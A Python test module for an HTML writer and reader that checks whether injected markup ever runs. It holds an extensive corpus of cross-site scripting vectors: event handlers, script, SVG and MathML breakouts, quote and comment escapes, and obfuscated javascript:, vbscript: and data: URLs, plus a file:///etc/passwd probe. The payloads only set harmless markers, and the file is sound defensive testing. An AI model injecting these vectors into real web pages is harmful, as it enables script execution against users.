"""The HTML format against hostile input: briefs that try to run script in the page the
writer makes, and HTML that tries to hurt the reader.

The writer (the issue: "every text is escaped; links go through the URL rules (only
allowed schemes; javascript:, vbscript:, data: refused in every spelling: case, leading
whitespace, control characters, entities); no attribute can be injected. Test with a
hostile corpus rendered in headless Chromium: no script runs, no handler fires"):

- A corpus of text payloads (script elements, event-handler attributes, quote breakouts,
  ``</script>``, ``</style>``, ``</title>``, ``<textarea>``, ``<noscript>``, comment and
  CDATA breakouts, SVG and MathML, ``srcdoc``, ``formaction``, CSS ``expression(`` and
  ``url(javascript:``, right-to-left overrides and zero-width characters, very long texts)
  goes into every text field of the model, and a corpus of URLs (``javascript:``,
  ``vbscript:``, ``data:`` and ``file:`` in every spelling: case, leading spaces and C0
  controls, tabs and newlines inside the scheme, character references such as
  ``jav&#x61;script:`` and ``&colon;``, percent-encoding, full-width letters; and URLs
  that try to break out of their attribute) into every URL field. The briefs are built
  directly: many are not valid (a ``javascript:`` link is refused by validation), and
  ``dumps`` does not validate, so the writer must be safe for all of them.
- Static checks, with lxml's HTML parser: only elements that cannot run script or load
  active content, the writer's own JSON-LD ``script`` and ``style`` in the head; no
  event-handler attribute, ``srcdoc``, ``formaction``, ``style`` attribute or any other
  attribute outside a short list; every ``href``/``src`` has a scheme the URL rules allow
  (as :func:`briefmodel.rules.url_scheme` sees it) or is a ``#source:`` reference; the
  JSON-LD parses and equals :func:`html.json_ld`; the headline is the text of the ``h1``
  and the ``title`` (escaped, not interpreted).
- A dynamic check in headless Chromium: every payload would, if it ran, set its own
  ``data-pwnedN`` attribute on the root element. The page opened is the writer's page with
  a test harness appended (our script, not the writer's): it dispatches the event of every
  ``on…`` attribute it finds, so that handlers a headless browser never triggers by itself
  (``onmouseover``, ``onclick``) would run too, follows every ``javascript:`` link, and
  lists every URL whose scheme *the browser's own URL parser* finds to be other than
  http, https or mailto. The dumped DOM must hold no marker, an empty list, and no
  element or attribute beyond the static policy. A positive control injects payloads into
  a written page by string replacement (not through the writer) and sees every marker,
  with and without the harness, so the detector is shown to work.

The reader (the issue: "the reader is safe on hostile HTML"): deeply nested elements
(100 000), a 200 MB document, invalid UTF-8, NUL bytes, unclosed tags, huge attributes,
entity-heavy text, a DOCTYPE with an internal subset and external entities aimed at a
secret local file, ``<base href>``, ``<meta http-equiv=refresh>``, forms, iframes, scripts,
and attacks on briefmodel's own page (its ``data-*`` attributes), through
``html.parse``, ``html.read(strict=False)``, ``bm.loads(…, "html", strict=False)`` and
``bm.validate(…, "html")``. Each gives a tree, a brief without the dangerous parts (whose
page is itself safe), or a :class:`~briefmodel.BriefmodelError` (``validate``: a report),
never another exception, never showing the secret, without touching the network. Nothing is
held to a wall-clock bound (a loaded machine would fail one at random): an attack refused
says by its ``parse.*`` code which early check refused it, the reader's speed is the
benchmark's business, and a call that hangs is caught by the guard of ``tests/_hang.py``.
"""

from __future__ import annotations

import base64
import json
import os
import re
import socket
import uuid
import warnings
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import attrs
import pytest
from benchmarks.workloads import hostile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

import briefmodel as bm
from briefmodel.formats import html
from briefmodel.formats.html._parse import _markup, _parser
from briefmodel.model import MODEL_TYPES, FrozenMap
from briefmodel.rules import url_scheme
from tests._work import assert_linear, hostile_run

from ..._browser import dump_dom
from ..._hang import guarded
from ..._offline import connections as _connections
from ..._profiles import examples

UTC = timezone.utc
CREATED = datetime(2026, 5, 4, 8, tzinfo=UTC)
ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})


# ======================================================================================
# Payloads: each placement gets its own marker, so a marker found names what ran


class Markers:
    """Numbered markers: ``js(what)`` is a script that sets ``data-pwnedN`` on the root
    element (no quotes, no spaces, no parentheses: it fits any context)."""

    def __init__(self) -> None:
        self.what: dict[int, str] = {}

    def js(self, what: str) -> str:
        number = len(self.what) + 1
        self.what[number] = what
        return f"document.documentElement.dataset.pwned{number}=1"

    def found(self, dom: etree._Element) -> list[str]:
        """The placements whose payload ran, from the markers in a DOM."""
        ran = []
        for element in dom.iter():
            if not isinstance(element.tag, str):
                continue
            for name in element.attrib:
                match = re.fullmatch(r"data-pwned(\d+)", str(name))
                if match:
                    number = int(match.group(1))
                    ran.append(f"#{number}: {self.what.get(number, '?')}")
        return ran


MARKERS = Markers()

#: Text payloads (``{js}`` is the marker script). Each would run script, or load active
#: content, if the writer put it into the page as markup or let it end an element or an
#: attribute early.
TEXT_PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", "<script>{js}</script>"),
    ("script upper", "<SCRIPT>{js}</SCRIPT >"),
    ("script data src", "<script src=data:text/javascript,{js}></script>"),
    ("script on lines", "<script>\n{js}\n</script>"),
    ("img onerror", "<img src=x onerror={js}>"),
    ("img onerror loopback", '<img src="http://127.0.0.1:9/x.png" onerror="{js}">'),
    ("img slashes", "<img/src=x/onerror={js}>"),
    ("img on lines", "<img\nsrc=x\nonerror={js}>"),
    ("image", "<image src=x onerror={js}>"),
    ("svg onload", "<svg onload={js}>"),
    ("svg script", "<svg><script>{js}</script></svg>"),
    ("svg animate", "<svg><animate onbegin={js} attributeName=x dur=1s>"),
    ("svg xlink", '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>'),
    ("mathml href", '<math href="javascript:{js}">x</math>'),
    ("mathml mxss", "<math><mtext><table><mglyph><style><img src=x onerror={js}>"),
    ("iframe srcdoc", '<iframe srcdoc="<script>parent.{js}</script>"></iframe>'),
    ("iframe javascript", '<iframe src="javascript:parent.{js}"></iframe>'),
    ("object data", '<object data="javascript:{js}"></object>'),
    ("embed", '<embed src="javascript:{js}">'),
    ("input autofocus", "<input autofocus onfocus={js}>"),
    ("any autofocus", "<xss autofocus tabindex=1 onfocus={js}>x</xss>"),
    ("details ontoggle", "<details open ontoggle={js}>"),
    ("body onload", "<body onload={js}>"),
    ("frameset", "<frameset onload={js}>"),
    ("marquee", "<marquee onstart={js}>m</marquee>"),
    ("video source", "<video><source onerror={js}></video>"),
    ("audio", "<audio src=x onerror={js}>"),
    ("formaction", "<form><button formaction=javascript:{js}>go</button></form>"),
    ("form action", "<form action=javascript:{js}><input type=submit></form>"),
    ("anchor", "<a href=javascript:{js}>click</a>"),
    ("onmouseover", "<div onmouseover={js}>hover</div>"),
    ("meta refresh", '<meta http-equiv=refresh content="0;url=javascript:{js}">'),
    ("base", '<base href="javascript:{js}//">'),
    ("link import", '<link rel=stylesheet href="javascript:{js}">'),
    ("style import", "<style>@import 'javascript:{js}';</style>"),
    ("css expression attr", '<div style="width:expression({js})">x</div>'),
    ("css url attr", '<div style="background:url(javascript:{js})">x</div>'),
    ("css expression text", "width: expression({js});"),
    ("css url text", "background: url(javascript:{js});"),
    ("noscript mxss", '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'),
    ("noscript end", "</noscript><img src=x onerror={js}>"),
    ("textarea end", "</textarea><img src=x onerror={js}>"),
    ("textarea", "<textarea><img src=x onerror={js}></textarea>"),
    ("title end", "</title><img src=x onerror={js}>"),
    ("style end", "</style><img src=x onerror={js}>"),
    ("script end", "</script><script>{js}</script>"),
    ("script end json", '"}</script><script>{js}</script>'),
    ("script comment", "<!--<script>{js}</script>-->"),
    ("comment", "<!--><img src=x onerror={js}>-->"),
    ("comment end", "--><img src=x onerror={js}>"),
    ("cdata end", "]]><img src=x onerror={js}>"),
    ("cdata", "<![CDATA[<img src=x onerror={js}>]]>"),
    ("select style", "<select><style></select><img src=x onerror={js}>"),
    ("processing instruction", '<?xml-stylesheet href="javascript:{js}"?>'),
    ("nested script", "<<script>script>{js}<</script>/script>"),
    ("double quote", '" onmouseover={js} x="'),
    ("single quote", "' onmouseover={js} x='"),
    ("double quote autofocus", '" autofocus onfocus={js} x="'),
    ("single quote autofocus", "' autofocus onfocus='{js}' x='"),
    ("double quote tag", '"><img src=x onerror={js}>'),
    ("single quote tag", "'><img src=x onerror={js}>"),
    ("backtick", "` onerror={js} `"),
    ("quote reference", "&quot; onerror={js} &quot;"),
    ("numeric quote reference", "&#34;><img src=x onerror={js}>"),
    ("escaped markup", "&lt;script&gt;{js}&lt;/script&gt;"),
    ("line separators", "\u2028</script><script>{js}</script>\u2029"),
    ("right-to-left override", "\u202e<img src=x onerror={js}>\u202c"),
    ("zero-width", "\u200b<scr\u200bipt>{js}</script>\u200d"),
    ("full-width brackets", "\uff1cscript\uff1e{js}\uff1c/script\uff1e"),
)

#: URL payloads: none may become a link a browser would run, nor leave its attribute.
URL_PAYLOADS: tuple[tuple[str, str], ...] = (
    ("javascript", "javascript:{js}"),
    ("mixed case", "JaVaScRiPt:{js}"),
    ("upper case", "JAVASCRIPT:{js}"),
    ("leading space", "  javascript:{js}"),
    ("leading controls", "\x01\x02\x1fjavascript:{js}"),
    ("leading NUL", "\x00javascript:{js}"),
    ("leading tab and newline", "\t\njavascript:{js}"),
    ("trailing controls", "javascript:{js}\x00\x1f "),
    ("tab inside", "java\tscript:{js}"),
    ("newline inside", "java\nscript:{js}"),
    ("carriage return inside", "java\rscript:{js}"),
    ("tabs everywhere", "\tj\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:{js}"),
    ("tab before colon", "javascript\t:{js}"),
    ("hex reference", "jav&#x61;script:{js}"),
    ("decimal reference", "jav&#97;script:{js}"),
    ("padded reference", "&#0000106;avascript:{js}"),
    ("colon entity", "javascript&colon;{js}"),
    ("tab entity", "java&Tab;script:{js}"),
    ("newline entity", "java&NewLine;script:{js}"),
    ("percent colon", "javascript%3a{js}"),
    ("percent letter", "%6aavascript:{js}"),
    ("comment newline", "javascript://%0a{js}"),
    ("host-like", "javascript://example.org/%0a{js}"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("vbscript case", "VBScript:{js}"),
    ("vbscript space", " vbscript:{js}"),
    ("data html", "data:text/html,<script>{js}</script>"),
    ("data base64", "data:text/html;base64,{b64}"),
    ("data upper", "DATA:text/html,<script>{js}</script>"),
    ("data svg", "\x01data:image/svg+xml,<svg onload={js}>"),
    ("data image", "data:image/png;base64,iVBORw0KGgo="),
    ("file", "file:///etc/passwd"),
    ("full-width", "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:{js}"),
    ("zero-width inside", "java\u200bscript:{js}"),
    ("NUL inside", "java\x00script:{js}"),
    ("unknown scheme", "x-unknown:{js}"),
    ("https then javascript", "https:javascript:{js}"),
    ("double quote", 'https://example.org/" onerror="{js}'),
    ("single quote", "https://example.org/' onerror='{js}"),
    ("quote to loopback", 'http://127.0.0.1:9/x.png" onerror="{js}" x="'),
    ("tag to loopback", 'http://127.0.0.1:9/x.png"><img src=x onerror={js}>'),
    ("fragment breakout", 'https://example.org/#"><script>{js}</script>'),
    ("mailto breakout", 'mailto:a@example.org?body="><script>{js}</script>'),
    ("protocol-relative", "//127.0.0.1:9/x"),
    ("backslashes", "\\\\127.0.0.1\\x"),
    ("relative breakout", '/x"><script>{js}</script>'),
)


def _fill(template: str, js: str) -> str:
    b64 = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    return template.replace("{js}", js).replace("{b64}", b64)


def texts(field: str) -> list[str]:
    """One payload of each kind for ``field``, each with its own marker."""
    return [_fill(t, MARKERS.js(f"{field} <- text {name!r}")) for name, t in TEXT_PAYLOADS]


def lines(field: str) -> list[str]:
    """As :func:`texts`, for one-line fields (line breaks become spaces)."""
    return [re.sub(r"[\r\n]", " ", t) for t in texts(field)]


def line(field: str) -> str:
    """Every payload in one line, for a field a brief has once."""
    return " | ".join(lines(field))


def text(field: str) -> str:
    """Every payload in one text, for a field a brief has once."""
    return "\n".join(texts(field))


def tokens(field: str) -> list[str]:
    """As :func:`texts`, without white space (for ids, qcodes and extension keys)."""
    return [re.sub(r"\s", "", t) for t in texts(field)]


def urls(field: str) -> list[str]:
    """One URL of each kind for ``field``, each with its own marker."""
    return [_fill(t, MARKERS.js(f"{field} <- url {name!r}")) for name, t in URL_PAYLOADS]


# ======================================================================================
# The hostile briefs, grouped into a few pages


def _header_brief() -> bm.Brief:
    """Every field of the header and the head: headline, subheadline, byline, dates,
    corrections, status, keywords, extensions, genre, the document's id."""
    safe = "https://example.org/a"
    return bm.Brief(
        id=f'https://example.org/b/1"><script>{MARKERS.js("id (og:url)")}</script>',
        headline=line("headline"),
        subheadline=text("subheadline"),
        language="en",
        created=CREATED,
        updated=CREATED + timedelta(hours=1),
        embargo_until=CREATED + timedelta(hours=2),
        status="withheld",
        urgency=1,
        genre=text("genre"),
        keywords=texts("keywords"),
        extensions={
            **{f"x:v{i}": t for i, t in enumerate(texts("extension value"))},
            **{f"x:{t}": i for i, t in enumerate(tokens("extension key"))},
            "x:nested": {"list": texts("extension nested"), "n": 1.5, "ok": True},
        },
        authors=[
            bm.Agent(name=n, role=r, affiliation=a, uri=safe)
            for n, r, a in zip(
                lines("author name"),
                texts("author role"),
                texts("author affiliation"),
                strict=False,
            )
        ]
        + [bm.Agent(name="Author", uri=u) for u in urls("author uri")],
        publisher=bm.Agent(
            name=line("publisher name"),
            role=text("publisher role"),
            affiliation=text("publisher affiliation"),
            uri=safe,
        ),
        corrections=[
            bm.Correction(signal="correction", note=n, date=CREATED) for n in texts("correction")
        ],
        rights=bm.Rights(
            holder=text("rights holder"),
            notice=text("rights notice"),
            usage_terms=text("rights usage terms"),
            license_url=safe,
        ),
        sections=[bm.Section(blocks=[bm.Paragraph(content="Body.")])],
    )


def _body_brief() -> bm.Brief:
    """Every field of the body: section titles, paragraphs, inline markup, links (text,
    title, address, bare, nested), mentions, lists, quotes, judgments, figures."""
    safe = "https://example.org/page"
    fields = {
        name: texts(name)
        for name in (
            "paragraph",
            "emphasis",
            "strong",
            "code",
            "link text",
            "link title",
            "inner link text",
            "mention",
            "list item",
            "item with blocks",
            "item block",
            "quote",
            "quote attribution",
            "judgment",
            "figure alt",
            "figure caption",
            "figure credit",
            "missing image alt",
            "subsection paragraph",
            "table caption",
            "header cell",
            "table cell",
        )
    }
    titles, subtitles = lines("section title"), lines("subsection title")
    sections = []
    for i in range(len(TEXT_PAYLOADS)):
        f = {name: values[i] for name, values in fields.items()}
        sections.append(
            bm.Section(
                id=f"s-{i}",
                title=titles[i],
                role="analysis",
                blocks=[
                    bm.Paragraph(
                        content=[
                            f["paragraph"],
                            bm.Emphasis(content=f["emphasis"]),
                            bm.Strong(content=[f["strong"], bm.LineBreak()]),
                            bm.Code(text=f["code"]),
                            bm.Link(href=safe, content=f["link text"], title=f["link title"]),
                            bm.Link(
                                href=safe,
                                content=[bm.Link(href=safe, content=f["inner link text"])],
                            ),
                            bm.Mention(ref="e1", content=f["mention"]),
                            bm.Citation(ref="src1"),
                        ]
                    ),
                    bm.ItemList(
                        ordered=bool(i % 2),
                        items=[
                            f["list item"],
                            bm.ListItem(
                                content=f["item with blocks"],
                                blocks=[bm.Paragraph(content=f["item block"])],
                            ),
                        ],
                    ),
                    bm.Quote(
                        content=f["quote"], attribution=f["quote attribution"], source_ref="src1"
                    ),
                    bm.Judgment(
                        statement=f["judgment"],
                        confidence="moderate",
                        likelihood="likely",
                        basis=["src1"],
                    ),
                    bm.Figure(
                        src="http://127.0.0.1:9/figure.png",
                        alt=f["figure alt"],
                        caption=[f["figure caption"], bm.Link(href=safe, content="more")],
                        credit=f["figure credit"],
                    ),
                    bm.Figure(src="figure.png", alt=f["missing image alt"]),
                    bm.Table(
                        caption=f["table caption"],
                        head=[
                            bm.TableRow(
                                cells=[bm.TableCell(content=f["header cell"], header="col")]
                            )
                        ],
                        body=[bm.TableRow(cells=[f["table cell"]])],
                    ),
                ],
                sections=[
                    bm.Section(
                        title=subtitles[i],
                        blocks=[bm.Paragraph(content=f["subsection paragraph"])],
                    )
                ],
            )
        )
    link_urls, bare_urls, nested_urls = urls("link href"), urls("bare link"), urls("inner link")
    figure_urls, caption_urls = urls("figure src"), urls("caption link")
    for i in range(len(URL_PAYLOADS)):
        sections.append(
            bm.Section(
                blocks=[
                    bm.Paragraph(
                        content=[
                            bm.Link(href=link_urls[i], content="a link", title="t"),
                            " and ",
                            bm.Link(href=bare_urls[i]),
                            bm.Link(href=safe, content=[bm.Link(href=nested_urls[i])]),
                        ]
                    ),
                    bm.Figure(
                        src=figure_urls[i],
                        alt="An image",
                        caption=bm.Link(href=caption_urls[i], content="c"),
                    ),
                ]
            )
        )
    deep: bm.Section = bm.Section(title=line("deepest title"), blocks=[bm.Paragraph(content="x")])
    for level in range(8):
        deep = bm.Section(title=line(f"title at depth {level}"), sections=[deep])
    sections.append(deep)
    return bm.Brief(
        id="urn:example:hostile:body",
        headline="Body",
        created=CREATED,
        sections=sections,
        entities=[bm.Entity(id="e1", kind="person", name="Someone")],
        sources=[bm.Source(id="src1", title="A source")],
    )


def _footer_brief() -> bm.Brief:
    """Every field of the footer: sources, entities, subjects, related links."""
    safe = "https://example.org/s"
    kinds = ("person", "organization", "place", "event", "other")
    return bm.Brief(
        id="urn:example:hostile:footer",
        headline="Footer",
        created=CREATED,
        sections=[bm.Section(blocks=[bm.Paragraph(content=[bm.Citation(ref="s0"), "x"])])],
        sources=[
            bm.Source(
                id=f"s{i}",
                title=t,
                url=safe,
                publisher=p,
                published=CREATED,
                accessed=CREATED,
                reliability="B",
                credibility=2,
            )
            for i, (t, p) in enumerate(
                zip(lines("source title"), texts("source publisher"), strict=True)
            )
        ]
        + [bm.Source(id=f"u{i}", title="Source", url=u) for i, u in enumerate(urls("source url"))],
        entities=[
            bm.Entity(
                id=f"e{i}",
                kind=kinds[i % len(kinds)],
                name=n,
                aliases=[a, b],
                identifiers={"wikidata": v, "x-id": w},
            )
            for i, (n, a, b, v, w) in enumerate(
                zip(
                    lines("entity name"),
                    texts("entity alias"),
                    texts("entity second alias"),
                    texts("entity identifier"),
                    texts("entity other identifier"),
                    strict=True,
                )
            )
        ],
        subjects=[
            bm.Subject(code=f"x:{c}", name=n, uri=safe, relevance=50, confidence=60)
            for c, n in zip(tokens("subject code"), lines("subject name"), strict=True)
        ]
        + [bm.Subject(code=f"x:{c}") for c in tokens("subject code alone")]
        + [bm.Subject(uri=u) for u in urls("subject uri")],
        related=[bm.Related(url=safe, title=t, rel="see-also") for t in texts("related title")]
        + [bm.Related(url=u, title="Related") for u in urls("related url")]
        + [bm.Related(url=u) for u in urls("related url shown")],
        publisher=bm.Agent(name="Publisher", uri="https://example.org/p"),
        rights=bm.Rights(holder=text("rights holder alone")),
    )


def _single_briefs() -> list[tuple[str, bm.Brief, dict[str, Any]]]:
    """Fields a brief has once, with one URL each (licence, publisher's address, the
    document's id), the writer's options (``url_schemes`` naming dangerous schemes,
    ``fragment``), and a right-to-left brief."""
    base = bm.Brief(
        id="urn:example:hostile:single",
        headline="Single",
        created=CREATED,
        sections=[bm.Section(blocks=[bm.Paragraph(content="x")])],
    )
    out: list[tuple[str, bm.Brief, dict[str, Any]]] = []
    for u in urls("rights licence url"):
        out.append(("licence", attrs.evolve(base, rights=bm.Rights(license_url=u)), {}))
    for u in urls("publisher uri"):
        out.append(("publisher", attrs.evolve(base, publisher=bm.Agent(name="P", uri=u)), {}))
    for u in tokens("document id"):
        out.append(("id", attrs.evolve(base, id="https://example.org/" + u), {}))
    dangerous = ("javascript", "JavaScript", "vbscript", "data", "file", "http", "https")
    links = [
        bm.Paragraph(content=[bm.Link(href=u, content="x"), bm.Link(href=v)])
        for u, v in zip(
            urls("link, url_schemes=dangerous"), urls("bare, url_schemes=dangerous"), strict=False
        )
    ]
    figures = [bm.Figure(src=u, alt="a") for u in urls("figure, url_schemes=dangerous")]
    out.append(
        (
            "url_schemes",
            attrs.evolve(base, sections=[bm.Section(blocks=[*links, *figures])]),
            {"url_schemes": dangerous},
        )
    )
    for u in urls("licence, url_schemes=dangerous"):
        out.append(
            (
                "url_schemes",
                attrs.evolve(base, rights=bm.Rights(license_url=u)),
                {"url_schemes": dangerous},
            )
        )
    out.append(
        (
            "rtl",
            attrs.evolve(
                base,
                language="ar",
                headline=line("right-to-left headline"),
                sections=[bm.Section(blocks=[bm.Paragraph(content=text("right-to-left text"))])],
            ),
            {},
        )
    )
    for brief in (_header_brief(), _footer_brief()):
        out.append(("fragment", brief, {"fragment": True}))
    return out


def _long_brief() -> bm.Brief:
    """Very long texts and URLs, many copies of a payload, deep inline nesting."""
    many = MARKERS.js("one of 5000 paragraphs")
    inline: Any = f"<img src=x onerror={MARKERS.js('deep inside inline markup')}>"
    for level in range(28):  # (as deep as the model allows, within a section)
        inline = (bm.Emphasis, bm.Strong)[level % 2](content=[inline])
    return bm.Brief(
        id="urn:example:hostile:long",
        headline="A" * 2**20 + f" <script>{MARKERS.js('after 1 MiB of headline')}</script>",
        subheadline="\"'<>&" * 20_000 + f"<img src=x onerror={MARKERS.js('after markup chars')}>",
        created=CREATED,
        sections=[
            bm.Section(
                title="B" * 100_000 + f"</h2><script>{MARKERS.js('after a long title')}</script>",
                blocks=[
                    *(bm.Paragraph(content=f"</p><script>{many}</script>") for _ in range(5000)),
                    bm.Paragraph(
                        content=[
                            bm.Link(
                                href="https://example.org/"
                                + "a" * 2**20
                                + f'"><script>{MARKERS.js("after a 1 MiB URL")}</script>',
                                content="long",
                            ),
                            bm.Link(
                                href=" " * 2**20
                                + f"javascript:{MARKERS.js('after 1 MiB of spaces')}",
                                content="spaces",
                            ),
                            bm.Link(
                                href="\t" * 100_000
                                + "java"
                                + "\n" * 100_000
                                + f"script:{MARKERS.js('tabs and newlines')}",
                                content="tabs",
                            ),
                            inline,
                        ]
                    ),
                ],
            )
        ],
    )


@dataclass(frozen=True)
class Page:
    name: str
    brief: bm.Brief
    options: dict[str, Any]

    @property
    def schemes(self) -> frozenset[str]:
        given = self.options.get("url_schemes", ALLOWED_SCHEMES)
        return frozenset(s.lower() for s in given) - {"javascript", "vbscript", "data", "file"}

    @property
    def text(self) -> str:
        return bm.dumps(self.brief, "html", **self.options)


GROUPS: dict[str, list[Page]] = {
    "header": [Page("header", _header_brief(), {})],
    "body": [Page("body", _body_brief(), {})],
    "footer": [Page("footer", _footer_brief(), {})],
    "singles": [Page(name, b, o) for name, b, o in _single_briefs()],
    "long": [Page("long", _long_brief(), {})],
}
ALL_PAGES = [
    (group, index, page) for group, pages in GROUPS.items() for index, page in enumerate(pages)
]


# ======================================================================================
# The static policy


#: Elements that cannot run script or load active content: what an article needs.
#: Anything else in a page (script but the JSON-LD, iframe, object, embed, svg, math,
#: form, input, button, base, link, template, noscript, audio, video…) was injected.
SAFE_ELEMENTS = frozenset(
    [
        "html",
        "head",
        "body",
        "meta",
        "title",
        "main",
        "article",
        "header",
        "footer",
        "section",
        "aside",
        "nav",
        "div",
        "p",
        "span",
        "a",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "figure",
        "figcaption",
        "blockquote",
        "q",
        "cite",
        "img",
        "time",
        "strong",
        "em",
        "b",
        "i",
        "u",
        "s",
        "code",
        "pre",
        "kbd",
        "samp",
        "var",
        "br",
        "hr",
        "wbr",
        "sup",
        "sub",
        "small",
        "abbr",
        "mark",
        "data",
        "bdi",
        "bdo",
        "address",
        "table",
        "caption",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
    ]
)
#: Attributes that cannot run script: anything else (on…, style, srcdoc, formaction,
#: action, http-equiv, srcset, xlink:href, background, poster…) was injected.
SAFE_ATTRIBUTE = re.compile(
    r"(?:class|id|lang|dir|title|alt|href|src|rel|datetime|loading|decoding|role|"
    r"aria-[a-z-]+|data-[a-z0-9-]+|charset|name|property|content|type|start|reversed|"
    r"width|height|hreflang|translate|tabindex|scope|colspan|rowspan)"
)
URL_ATTRIBUTES = frozenset({"href", "src", "cite"})


def _parse(page: str) -> etree._Element:
    """A page parsed by lxml without libxml2's size limits (nothing may be cut off)."""
    parser = etree.HTMLParser(
        encoding="utf-8", huge_tree=True, remove_comments=False, default_doctype=False
    )
    root = etree.fromstring(page.encode("utf-8", "surrogatepass"), parser)
    assert root is not None
    return root


def _all_text(element: etree._Element) -> str:
    return "".join(element.itertext())  # type: ignore[arg-type]


def policy_violations(
    root: etree._Element, schemes: frozenset[str], *, head_scripts: int | None, extra: str = ""
) -> list[str]:
    """What in a parsed page breaks the static policy. ``head_scripts`` is the number of
    JSON-LD scripts (and stylesheets, at most) the head must hold; None for pages put
    together (where they may be anywhere, in any number). ``extra`` is the id of a script
    of our own that is allowed (the harness)."""
    bad: list[str] = []
    scripts = styles = 0
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions are inert
        tag = element.tag.lower()
        parent = element.getparent()
        in_head = head_scripts is None or (parent is not None and parent.tag == "head")
        if tag == "script":
            if extra and element.get("id") == extra:
                continue
            if (
                element.get("type") != "application/ld+json"
                or not in_head
                or element.attrib.keys() != ["type"]
            ):
                bad.append(f"a script element: {etree.tostring(element)[:200]!r}")
            scripts += 1
        elif tag == "style":
            if not in_head or element.attrib:
                bad.append(f"a style element: {etree.tostring(element)[:200]!r}")
            styles += 1
        elif tag not in SAFE_ELEMENTS:
            bad.append(f"a <{tag}> element: {etree.tostring(element)[:200]!r}")
        for name, value in element.attrib.items():
            name = str(name).lower()
            if not SAFE_ATTRIBUTE.fullmatch(name):
                bad.append(f"<{tag} {name}={value[:120]!r}>")
            if (
                tag == "meta"
                and name == "content"
                and element.get("property") == "og:url"
                and url_scheme(value) not in ("http", "https")
            ):
                bad.append(f"og:url {value[:120]!r}")
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme not in schemes and not (tag == "a" and value.startswith("#source:")):
                    bad.append(f"<{tag} {name}={value[:120]!r}>: scheme {scheme!r}")
    if head_scripts is not None:
        if scripts != head_scripts:
            bad.append(f"{scripts} JSON-LD scripts, expected {head_scripts}")
        if styles > head_scripts:
            bad.append(f"{styles} style elements")
    return bad


def check_page(page: Page, written: str) -> None:
    """The static checks of one written page."""
    root = _parse(written)
    fragment = bool(page.options.get("fragment"))
    problems = policy_violations(root, page.schemes, head_scripts=0 if fragment else 1)
    assert not problems, "\n".join(problems[:20])
    article = root.find(".//article")
    assert article is not None
    h1 = article.find("header/h1")
    assert h1 is not None
    assert _all_text(h1) == page.brief.headline
    if fragment:
        return
    title = root.find("head/title")
    assert title is not None
    assert _all_text(title) == page.brief.headline
    scripts = root.findall("head/script")
    assert json.loads(scripts[0].text or "") == html.json_ld(
        page.brief, url_schemes=tuple(page.schemes)
    )


# ======================================================================================
# Writer: the static checks


@pytest.mark.parametrize(
    ("group", "index", "page"), ALL_PAGES, ids=[f"{g}-{i}-{p.name}" for g, i, p in ALL_PAGES]
)
def test_hostile_briefs_give_pages_that_pass_the_static_policy(
    group: str, index: int, page: Page
) -> None:
    check_page(page, page.text)


@pytest.mark.parametrize("group", ["header", "body", "footer", "long"])
def test_hostile_texts_read_back_as_text(group: str) -> None:
    """Escaped, not interpreted: briefmodel's own reader gets every text back exactly."""
    for page in GROUPS[group]:
        if "\x00" in page.text:
            # A NUL is the one character HTML cannot carry at all (a parser reads U+FFFD
            # for it): the page is refused at the NUL's line, not read changed. (A brief
            # that holds one is not valid.)
            with pytest.raises(bm.ParseError) as caught:
                html.read(page.text)
            assert caught.value.problem.code == "parse.syntax"
            nul = page.text.index("\x00")
            assert caught.value.problem.line == page.text.count("\n", 0, nul) + 1
            continue
        back = json.dumps(bm.to_dict(html.read(page.text)), sort_keys=True)
        assert back == json.dumps(bm.to_dict(page.brief), sort_keys=True)


def test_every_text_and_url_field_is_covered() -> None:
    """The corpus reaches every string field of the model (a new field must be added)."""
    covered: set[tuple[str, str]] = set()
    for _, _, page in ALL_PAGES:
        for _, node in page.brief.walk():
            if not attrs.has(type(node)):
                continue
            for field in attrs.fields(type(node)):
                value = getattr(node, field.name)
                if value is None or value == () or value == {}:
                    continue
                if _holds_payload(value):
                    covered.add((type(node).__name__, field.name))
    wanted = {
        (cls.__name__, field.name)
        for cls in MODEL_TYPES
        for field in attrs.fields(cls)
        if _may_hold_text(field)
    }
    assert wanted - covered == set()


def _holds_payload(value: Any) -> bool:
    """Whether a field's own strings (not those of the nodes in it) hold a payload."""
    if isinstance(value, tuple):
        return any(_holds_payload(v) for v in value if not attrs.has(type(v)))
    if isinstance(value, FrozenMap):
        return any(_holds_payload(v) for v in (*value.keys(), *value.values()))
    return isinstance(value, str) and "pwned" in value


def _may_hold_text(field: attrs.Attribute[Any]) -> bool:
    """Fields a string goes into that is not an enumeration, a node id or a date."""
    shape = field.metadata.get("shape")
    if shape is not None and shape.name in ("node-id", "language"):
        return False
    kind = str(field.type)
    if "Literal" in kind:
        return False
    return any(word in kind for word in ("str", "RichText", "JsonValue", "FrozenMap"))


def test_the_json_ld_links_only_to_allowed_schemes() -> None:
    """JSON-LD is read by crawlers, which show its ``url``, ``sameAs`` and ``license`` as
    links: they go through the URL rules as the page's links do."""
    problems = []
    for _, _, page in ALL_PAGES:
        stack: list[Any] = [html.json_ld(page.brief, url_schemes=tuple(page.schemes))]
        while stack:
            value = stack.pop()
            if isinstance(value, dict):
                for key, item in value.items():
                    if (
                        key in ("url", "sameAs", "license")
                        and isinstance(item, str)
                        and url_scheme(item) not in page.schemes
                    ):
                        problems.append(f"{page.name}: {key} {item[:80]!r}")
                    stack.append(item)
            elif isinstance(value, list):
                stack.extend(value)
    assert not problems, "\n".join(problems[:10])


# ======================================================================================
# Writer: headless Chromium


#: Our script, appended to a copy of the page (the writer never wrote it): it fires every
#: inline handler, follows every javascript: link, and lists every URL the browser parses
#: to a scheme other than http, https and mailto, then records that it ran.
HARNESS_ID = "briefmodel-test-harness"
